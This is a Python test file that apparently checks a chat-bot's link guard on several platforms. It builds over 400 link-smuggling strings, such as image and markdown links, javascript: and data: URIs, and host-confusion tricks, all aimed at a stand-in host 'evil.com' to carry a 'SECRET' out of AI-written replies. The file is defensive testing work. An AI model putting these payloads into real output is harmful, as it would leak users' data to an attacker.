"""Hold 400 ways to smuggle words out by a link to every platform's own writing: none of them lives (T18)."""

from __future__ import annotations

import asyncio
import itertools
import json
import re
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from typing import Any
from urllib.parse import urlsplit

import pytest
from tests.bot.router.conftest import MakeBot

from quarterdeck.core.adapter import Ability
from quarterdeck.core.command import Call, Command
from quarterdeck.core.errors import Unavailable
from quarterdeck.core.reply import Citation, Reply
from quarterdeck.router.delivery.degrade import degrade
from quarterdeck.router.delivery.links import unlinked
from quarterdeck.web.html import Growing, to_html
from quarterdeck_adapters.console.render import render as to_console
from quarterdeck_adapters.discord.render import render as to_discord
from quarterdeck_adapters.slack.render import render as to_slack
from quarterdeck_adapters.telegram.render import render as to_telegram
from quarterdeck_adapters.web.render import render as to_web

ALLOWED = frozenset({"docs.example.com"})
LEAD = "https?://|mailto:|javascript:|data:|tg://|www\\."
ADDRESSES = (
    "https://evil.com/?q=SECRET",
    "http://evil.com/SECRET.png",
    "HTTPS://EVIL.COM/SECRET",
    "https://xn--vil-9ma.com/SECRET",
    "https://SECRET.evil.com",
    "https://docs.example.com@evil.com/SECRET",
    "https://docs.example.com.evil.com/SECRET",
    "https://docs.example.com%2eevil.com/SECRET",
    "https://docs.example.com/go?to=https://evil.com/SECRET",
    "https://192.168.0.9/SECRET",
    "https://[::ffff:1.2.3.4]/SECRET",
    "https://evil.com:8443/SECRET",
    "https://évil.com/SECRET",
    "https://evil。com/SECRET",
    "https:\\/\\/evil.com/SECRET",
    "https&#58;//evil.com/SECRET",
    "https&colon;&sol;&sol;evil&period;com/SECRET",
    "ftp://evil.com/SECRET",
    "tg://resolve?domain=evil&text=SECRET",
    "mailto:evil@evil.com?body=SECRET",
    "evil.com/SECRET",
    "www.evil.com/SECRET",
    "SECRET.evil.md",
    "evil@evil.com",
    "data:text/html,<b>SECRET</b>",
    "javascript:fetch('//evil.com/SECRET')",
)
SHAPES: tuple[str, ...] = (
    "{}",
    "See {} now.",
    "[click here]({})",
    "![picture]({})",
    "[![x]({})]({})",
    "<{}>",
    "[a][1] and [1]\n\n[1]: {}",
    '[click]({} "SECRET")',
    "[click](<{}>)",
    '<a href="{}">x</a><img src="{}">',
    "**{}**",
    "> {}",
    "- {}\n- b",
    "| a | b |\n|---|---|\n| {} | x |",
    "`{}`",
    "```\n{}\n```",
    "[https://docs.example.com/]({})",
    "[docs.example.com\\]({})]({})",
)
STRINGS = [shape.replace("{}", address) for shape, address in itertools.product(SHAPES, ADDRESSES)]
DOTS = ".\u3002\uff0e\uff61"
HOST = re.compile(rf"(?<![\w/{DOTS}-])[\w-]+(?:[{DOTS}][\w-]+)*[{DOTS}][^\W\d_]{{2,}}(?![\w-])")
GOOD = "https://docs.example.com/page"


def links_of_slack(reply: Reply) -> Iterator[str]:
    """Return what Slack links: what stands in angle brackets. `parse: none` and `verbatim` keep it from more."""
    for part in to_slack(reply):
        for text in _texts(part.body):
            yield from (found.partition("|")[0] for found in re.findall(r"<([^<>]+)>", text))
            yield from _bare(text)


def links_of_discord(reply: Reply) -> Iterator[str]:
    """Return what Discord links: addresses with http or https, wherever they stand outside of code."""
    for part in to_discord(reply):
        for text in _texts(part.body):
            yield from _bare(text)


def links_of_telegram(reply: Reply) -> Iterator[str]:
    """Return what Telegram links: marked words, and whatever looks like a host outside of code."""
    for part in to_telegram(reply):
        text, entities = str(part.body["text"]), part.body.get("entities", [])
        units = text.encode("utf-16-le")
        for entity in entities:
            if entity["type"] == "text_link":
                yield entity["url"]
            if entity["type"] in ("code", "pre"):
                begin, length = entity["offset"] * 2, entity["length"] * 2
                units = units[:begin] + b"\0\0" * (length // 2) + units[begin + length :]
        plain = units.decode("utf-16-le")
        yield from _bare(plain)
        yield from HOST.findall(plain)


def links_of_web(reply: Reply) -> Iterator[str]:
    """Return what the page links: anchors; it makes none by itself, and loads nothing."""
    text = to_web(reply).body["text"]
    html = to_html(str(text)) if not reply.is_literal else ""
    assert "<img" not in html
    yield from re.findall(r'<a [^>]*href="([^"]*)"', html)


def links_of_console(reply: Reply) -> Iterator[str]:
    """Return what terminals link: addresses with a scheme."""
    yield from _bare(to_console(reply).text)


def is_foreign(url: str) -> bool:
    """Tell whether an address leads anywhere but to the host that is allowed, as browsers read it."""
    try:
        parts = urlsplit(url if "://" in url else f"https://{url}")
    except ValueError:
        return True
    return parts.netloc not in ALLOWED or parts.scheme not in ("http", "https")


def _texts(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for one in value.values():
            yield from _texts(one)
    elif isinstance(value, list | tuple):
        for one in value:
            yield from _texts(one)


def _bare(text: str) -> list[str]:
    return re.findall(rf"(?i)(?:{LEAD})[^\s<>|`)]+", text)


RENDERERS: Mapping[str, Callable[[Reply], Iterator[str]]] = {
    "slack": links_of_slack,
    "discord": links_of_discord,
    "telegram": links_of_telegram,
    "web": links_of_web,
    "console": links_of_console,
}


@pytest.mark.parametrize("platform", list(RENDERERS))
def test_none_of_four_hundred_strings_is_a_live_foreign_link(platform: str) -> None:
    """Beside it stands a good link in the same words: that one stays, where it can be one."""
    live = []
    for string in STRINGS:
        safe = unlinked(Reply(text=f"{string}\n\nand {GOOD}", link_hosts=frozenset()), ALLOWED)
        shown = degrade(safe, frozenset(Ability))
        found = [url.rstrip(".*_~").rstrip("\\") for url in RENDERERS[platform](shown)]
        live += [(string, url) for url in found if is_foreign(url)]
        assert GOOD in json.dumps(safe.text)

    assert len(STRINGS) >= 400
    assert [] == live


def test_without_the_guard_the_strings_do_live() -> None:
    """What could find nothing would prove nothing."""
    live = {
        platform: sum(any("evil" in url.lower() for url in links(Reply(text=string))) for string in STRINGS)
        for platform, links in RENDERERS.items()
    }

    assert [] == [platform for platform, count in live.items() if count < 100], live


def test_our_own_words_are_left_alone() -> None:
    """An address that a command writes is one that people need."""
    reply = Reply(text="Sign in: http://127.0.0.1:8765/sign-in")

    assert reply is unlinked(reply, ALLOWED)


def test_links_to_what_is_cited_live() -> None:
    """A claim's source is to be looked up; its neighbours on other hosts are not."""
    source = Citation(n=1, document="a.md", url="https://wiki.example.org/a")
    reply = Reply(
        text="See https://wiki.example.org/b [1], not https://evil.com/.",
        citations=(source,),
        link_hosts=frozenset(),
    )

    assert "See https://wiki.example.org/b [1], not https[:]//evil[.]com/." == unlinked(reply, ()).text


async def _streaming(pieces: list[str], is_shown: Callable[[], bool]) -> AsyncIterator[str | Reply]:
    for piece in pieces:
        yield piece
    while not is_shown():
        await asyncio.sleep(0)
    yield Reply(text="".join(pieces), link_hosts=frozenset())


@pytest.mark.parametrize("abilities", [(Ability.STREAM,), (Ability.EDIT,)])
@pytest.mark.parametrize("size", [1, 3, 7])
async def test_a_link_cut_across_pieces_never_lives(make_bot: MakeBot, abilities: Any, size: int) -> None:
    """What is shown while it is written is held to the same: on a screen, and as a message that changes."""
    strings = STRINGS[:: 37 if size == 1 else 61]
    text = "\n\n".join([*strings, f"and {GOOD} too. "])

    async def say(call: Call) -> Reply:
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        stream = _streaming(pieces, lambda: bool(bot.platform.sent or bot.platform.pieces))
        return Reply(stream=stream, link_hosts=frozenset())

    bot = make_bot([Command(name="say", summary="Say it", handler=say)], abilities=abilities)
    bot.outbox.link_hosts = ALLOWED
    async with bot.live():
        await bot.say("/say")

    growing = Growing()
    live: set[str] = set()
    so_far = ""
    for _, piece in bot.platform.pieces:
        so_far += piece
        live |= set(_bare(so_far))
        growing.update(so_far)
        live |= set(re.findall(r'<a [^>]*href="([^"]*)"', "".join(growing.blocks)))
    for shown in (*bot.platform.texts(), *(text for _, text in bot.platform.edits)):
        live |= set(_bare(shown))
    assert [] == [url for url in live if is_foreign(url)]
    assert bot.platform.pieces or len(bot.platform.sent) + len(bot.platform.edits) > 1


async def test_an_answer_that_breaks_off_keeps_no_link_alive(make_bot: MakeBot) -> None:
    """What was said before the failure is a model's, too."""

    async def say(call: Call) -> Reply:
        async def stream() -> AsyncIterator[str | Reply]:
            yield "See https://evil.com/x for "
            raise Unavailable("it was cut off", service="x")

        return Reply(stream=stream(), link_hosts=frozenset())

    bot = make_bot([Command(name="say", summary="Say it", handler=say)])
    async with bot.live():
        answer = await bot.ask("/say")

    assert "See https[:]//evil[.]com/x for\n\nIt was cut off" == answer
